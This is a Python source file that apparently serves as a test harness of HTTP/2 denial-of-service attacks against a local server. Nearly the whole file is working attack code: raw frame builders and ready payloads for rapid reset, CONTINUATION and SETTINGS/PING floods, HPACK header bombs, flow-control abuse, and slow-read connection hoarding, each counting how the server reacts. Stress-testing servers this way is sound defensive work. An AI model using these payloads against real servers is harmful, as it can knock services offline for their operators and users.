# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on HTTP/2. Each is attack(target, until, outcomes): it goes on until then, and counts what became of it."""
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
CANCEL, MANY = 8, 2000
MAX = b"\x7f\xff\xff\xff"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


HELLO = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0)  # without the second more streams than are offered are refused, not an error


def text(s):
    s = s if isinstance(s, bytes) else s.encode("latin-1")
    if len(s) < 127:
        return bytes([len(s)]) + s
    n, out = len(s) - 127, b"\x7f"
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n]) + s


def head(*extra, method="GET", path="/direct"):
    """A header block of literals that nobody keeps."""
    return b"".join(b"\0" + text(n) + text(v) for n, v in ((":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *extra))


def frames(data):
    while len(data) >= 9:
        n = int.from_bytes(data[:3], "big")
        yield data[3], int.from_bytes(data[5:9], "big"), data[9:9 + n]
        data = data[9 + n:]


def verdict(data, closed=True):
    """What the door said of it: the GOAWAY, else the last reset, else that it closed or goes on."""
    said = "closed" if closed else "open"
    for kind, _, payload in frames(data):
        if kind == GOAWAY and len(payload) >= 8:
            return f"GOAWAY {payload[7]}"
        if kind == RST and len(payload) == 4:
            said = f"RST {payload[3]}"
    return said


def send(s, data):
    """What could be sent; the door may have closed in the middle. All that came."""
    got = b""
    s.setblocking(False)
    end = time.monotonic() + 2
    while data and time.monotonic() < end:
        try:
            data = data[s.send(data):]
        except BlockingIOError:
            pass
        except OSError:
            break
        try:
            piece = s.recv(65536)
            if not piece:
                return got, True
            got += piece
        except BlockingIOError:
            time.sleep(0)
        except OSError:
            return got, True
    return got, False


def hear(s, got, closed, seconds=1.0):
    s.settimeout(min(0.2, seconds))
    end = time.monotonic() + seconds
    while not closed and time.monotonic() < end:
        try:
            piece = s.recv(65536)
            closed = not piece
            got += piece
        except socket.timeout:
            pass
        except OSError:
            closed = True
    return got, closed


def again(data, seconds=3.0, pause=0.0):
    """An attack that sends these bytes on a connection, waits for the end, and does so again."""
    def attack(target, until, outcomes):
        while time.monotonic() < until:
            with socket.create_connection(("127.0.0.1", target.plain), 5) as s:
                got, closed = send(s, HELLO + data)
                outcomes[verdict(*hear(s, got, closed, seconds))] += 1
            time.sleep(pause)
    return attack


def waves(make, size=50):
    """The same with streams that the door resets: as many at once as it takes, and then more."""
    def attack(target, until, outcomes):
        while time.monotonic() < until:
            with socket.create_connection(("127.0.0.1", target.plain), 5) as s:
                got, closed = send(s, HELLO)
                for wave in range(40):
                    if closed or verdict(got).startswith("GOAWAY"):
                        break
                    piece, closed = send(s, b"".join(make(1 + 2 * (wave * size + i)) for i in range(size)))
                    piece, closed = hear(s, got + piece, closed, 0.01)
                    got = piece
                outcomes[verdict(*hear(s, got, closed))] += 1
    return attack


def each(make, n=MANY):
    return b"".join(make(1 + 2 * i) for i in range(n))


def get(i, path="/o"):
    return frame(HEADERS, 5, i, head(path=path))


def post(i, *extra, path="/sink"):
    return frame(HEADERS, 4, i, head(*extra, method="POST", path=path))


def hoard(connections, first, drip=b"", every=1.0):
    """An attack that opens so many connections, says `first` on each, and holds them; `drip` now and then."""
    def attack(target, until, outcomes):
        held = []
        for _ in range(connections):
            if time.monotonic() > until:
                break
            try:
                s = socket.create_connection(("127.0.0.1", target.brief), 5)
                got, closed = send(s, first)
                held.append([s, got])
            except OSError:
                outcomes["refused"] += 1
        until = max(until, time.monotonic() + 0.5)
        due = time.monotonic() + every
        while time.monotonic() < until:
            time.sleep(0.05)
            if drip and time.monotonic() >= due:
                due += every
                for x in held:
                    x[1] += send(x[0], drip)[0]
        for s, got in held:
            got, closed = hear(s, got, False, 0.01)
            outcomes[verdict(got, closed)] += 1
            s.close()
    return attack


def dribble(target, until, outcomes):
    """A window of a byte, opened again by a byte, again and again."""
    while time.monotonic() < until:
        with socket.create_connection(("127.0.0.1", target.plain), 5) as s:
            got, closed = send(s, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + get(1, "/big"))
            for _ in range(4000):
                if closed or verdict(got) != "closed":
                    break
                piece, closed = send(s, frame(WINDOW, 0, 1, b"\0\0\0\1") * 10)
                got = (got + piece)[-8192:] if len(got) > 1 << 16 else got + piece
                time.sleep(0.001)
            got, closed = hear(s, b"", closed, 0.5) if verdict(got) == "closed" else (got, closed)
            outcomes[verdict(got, closed)] += 1


def padding(target, until, outcomes):
    """A byte of content in 257, as fast as the window opens."""
    while time.monotonic() < until:
        with socket.create_connection(("127.0.0.1", target.plain), 5) as s:
            got, closed = send(s, HELLO + post(1))
            sent, end = 0, time.monotonic() + 5
            while not closed and verdict(got) == "closed" and time.monotonic() < end:
                opened = {i: 65535 + sum(int.from_bytes(p, "big") for kind, n, p in frames(got) if kind == WINDOW and n == i) for i in (0, 1)}
                if sent + 257 * 40 <= min(opened.values()):
                    sent += 257 * 40
                    piece, closed = send(s, frame(DATA, 8, 1, b"\xffx" + b"\0" * 255) * 40)
                else:
                    piece, closed = hear(s, b"", closed, 0.02)
                got += piece
            outcomes[verdict(*hear(s, got, closed))] += 1


def premature(target, until, outcomes):
    """Requests that are reset at once, as slowly as the limit of resets allows."""
    while time.monotonic() < until:
        with socket.create_connection(("127.0.0.1", target.plain), 5) as s:
            got, closed = send(s, HELLO)
            for n in range(300):
                if closed:
                    break
                piece, closed = send(s, get(1 + 2 * n) + frame(RST, 0, 1 + 2 * n, struct.pack(">I", CANCEL)))
                got += piece
                time.sleep(0.033 if n > 90 else 0)
            outcomes[verdict(*hear(s, got, closed))] += 1


def blocks(i, n, payload):
    """A head in so many CONTINUATIONs."""
    return frame(HEADERS, 1, i, head()) + frame(CONTINUATION, 0, i, payload) * n


def window(size):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


INDEXED = b"\x40" + text("x") + text("x" * 4000)  # becomes entry 62
SHUT = PREFACE + window(0)
RESET = struct.pack(">I", CANCEL)
FILL = frame(DATA, 0, 1, b"\0" * 16000)

rapid_reset = again(each(lambda i: get(i) + frame(RST, 0, i, RESET)))
made_by_window = waves(lambda i: get(i) + frame(WINDOW, 0, i, MAX))
made_by_length = waves(lambda i: post(i, ("content-length", "1")) + frame(DATA, 1, i, b"12"))
made_by_trailers = waves(lambda i: post(i) + frame(HEADERS, 4, i, b"\0\1x\1y"))
made_by_late_data = again(each(lambda i: get(i) + frame(DATA, 0, i, b"late"), 100))
made_by_zero_window = again(each(lambda i: get(i) + frame(WINDOW, 0, i, b"\0\0\0\0"), 100))
made_by_priority = again(each(lambda i: get(i) + frame(PRIORITY, 0, i, struct.pack(">IB", i, 1)), 200))
continuation = again(blocks(1, MANY, b"\0\1x\1y"))
continuation_empty = again(blocks(1, MANY, b""))
settings = again(frame(SETTINGS, 0, 0) * 20000)
settings_entries = again(frame(SETTINGS, 0, 0, b"\0\x77\0\0\0\0" * 2000) * 200)
settings_windows = again(window(0) + each(lambda i: get(i, "/big"), 100) + (window(0x7fffffff) + window(0)) * 5000)
settings_tables = again(each(lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 1, i % 2 * 4096)) + get(i, "/direct"), 90))
settings_acks = again(frame(SETTINGS, 1, 0) * 20000)
pings = again(frame(PING, 0, 0, b"x" * 8) * 20000)
pongs = again(frame(PING, 1, 0, b"x" * 8) * 20000)
priorities = again(frame(PRIORITY, 0, 3, b"\0\0\0\1\1") * 20000)
empty_data = again(post(1) + frame(DATA, 0, 1) * 20000)
padded_data = again(post(1) + frame(DATA, 8, 1, b"\3\0\0\0") * 20000)
small_data = again(post(1, path="/sink") + frame(DATA, 0, 1, b"x") * 50000, seconds=0.05)
window_updates = again(frame(WINDOW, 0, 0, b"\0\0\0\1") * 20000)
unknown = again(frame(0x66, 0, 0, b"x" * 100) * 20000)
goaways = again(frame(GOAWAY, 0, 0, b"\0" * 8) * 20000)
stray_data = again(get(1, "/direct") + frame(HEADERS, 4, 3, b"\x82") + frame(DATA, 0, 3, b"x" * 16000) * 300)
# Streams that the door resets: what comes of those that the client reset ends the connection at once.
stray_headers = again(frame(HEADERS, 4, 1, b"\x82") + frame(HEADERS, 4, 1, b"\x82" * 20) * 20000)
header_bomb = again(frame(HEADERS, 1, 1, head() + INDEXED + b"\xbe" * 8000) + frame(CONTINUATION, 4, 1, b"\xbe" * 16000))
table_updates = again(each(lambda i: frame(HEADERS, 5, i, b"\x20\x3f\xe1\x1f" * 3000 + head()), 90), seconds=0.05)
table_too_large = again(frame(HEADERS, 5, 1, b"\x3f\xe2\x1f" + head()))
many_headers = again(each(lambda i: frame(HEADERS, 5, i, head(*((f"x{n}", "1") for n in range(150)))), 90), seconds=0.05)
large_headers = again(each(lambda i: frame(HEADERS, 1, i, head(("x", "y" * 16000))) + frame(CONTINUATION, 0, i, b"\0" + text("x") + text("y" * 16000)) * 3
                           + frame(CONTINUATION, 4, i, b"\0" + text("x") + text("y" * 16000)), 50), seconds=0.05)
empty_names = waves(lambda i: frame(HEADERS, 5, i, head() + b"\0\0\0" * 20))
trailers = waves(lambda i: post(i) + frame(HEADERS, 5, i, b"".join(b"\0" + text(f"x{n}") + text("1") for n in range(150))))
too_many = again(each(lambda i: post(i)))
zero_window = hoard(20, SHUT + each(lambda i: get(i, "/big"), 99))
unread = hoard(40, PREFACE + window(0x7fffffff) + frame(WINDOW, 0, 0, b"\x7f\0\0\0") + each(lambda i: get(i, "/big"), 99) + frame(PING, 0, 0, b"x" * 8) * 400)
half_head = hoard(100, HELLO + frame(HEADERS, 0, 1, head()) + frame(CONTINUATION, 0, 1, b"\0")[:9])
no_settings = hoard(200, PREFACE[:20])
held_bodies = hoard(20, HELLO + each(lambda i: post(i, ("x", "y" * 4000)) + frame(DATA, 0, i, b"x"), 90), frame(PING, 0, 0, b"x" * 8))
